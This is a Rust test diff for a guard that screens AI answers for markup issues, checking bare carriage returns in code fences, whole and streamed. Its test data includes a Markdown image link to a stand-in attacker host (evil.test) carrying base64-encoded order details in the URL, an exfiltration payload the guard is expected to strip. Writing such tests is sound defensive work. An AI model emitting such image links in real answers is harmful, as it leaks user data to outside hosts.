@@ -661,6 +661,43 @@ fn where_the_cuts_fall_does_not_decide_whether_a_tag_is_escaped() {
     }
 }
 
+/// A carriage return alone ends a line for a CommonMark renderer: a code fence
+/// closed on such lines is closed, and what follows it is judged, whole or
+/// streamed, wherever the cuts fall.
+#[test]
+fn a_carriage_return_alone_ends_a_line() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let prose = "Plain prose about the order and its delivery window. ".repeat(24);
+    let image = "![s](https://evil.test/p.png?d=T3JkZXIgNDQyMSBzaGlwcGVk)";
+    for fenced in [
+        "```\rlet x = 1;\r```\r\n\n",
+        "```\rlet x = 1;\r```\r\r",
+        "~~~~\r~~~\r~~~~\n\n",
+    ] {
+        let answer = format!("{prose}\n\n{fenced}{image} done\n");
+        let whole = whole_outcome(&g, request(None), &answer).unwrap();
+        assert!(!whole.contains("evil.test"), "{answer:?} -> {whole:?}");
+        assert!(!whole.replace("\r\n", "").contains('\r'), "{whole:?}");
+        let streamed: Vec<String> = (1..=3)
+            .map(|n| {
+                let chunks: Vec<&str> = answer
+                    .as_bytes()
+                    .chunks(answer.len() / n + 1)
+                    .map(|c| std::str::from_utf8(c).unwrap())
+                    .collect();
+                stream_outcome(&g, request(None), &chunks).unwrap()
+            })
+            .collect();
+        for s in streamed {
+            assert!(!s.contains("evil.test"), "{answer:?} -> {s:?}");
+        }
+        released_validates_clean(&g, &answer);
+    }
+    // Elsewhere too, as line feeds, flagged; a return before a line feed stays.
+    let c = check(&g, request(None), GuardResponse::new("one\rtwo\r\nthree\r")).unwrap();
+    assert_eq!(c.response().text(), "one\ntwo\r\nthree\n");
+    assert_eq!(ids(c.findings()), ["markup.bare_cr", "markup.bare_cr"]);
+}
 /// Answers the `markup` fuzz target found (`tests/data/markup_fuzz`, kept as it
 /// wrote them: control bytes, brackets and tags a kilobyte long): what the guard
 /// releases of each validates clean, with the fuzz target's validator.
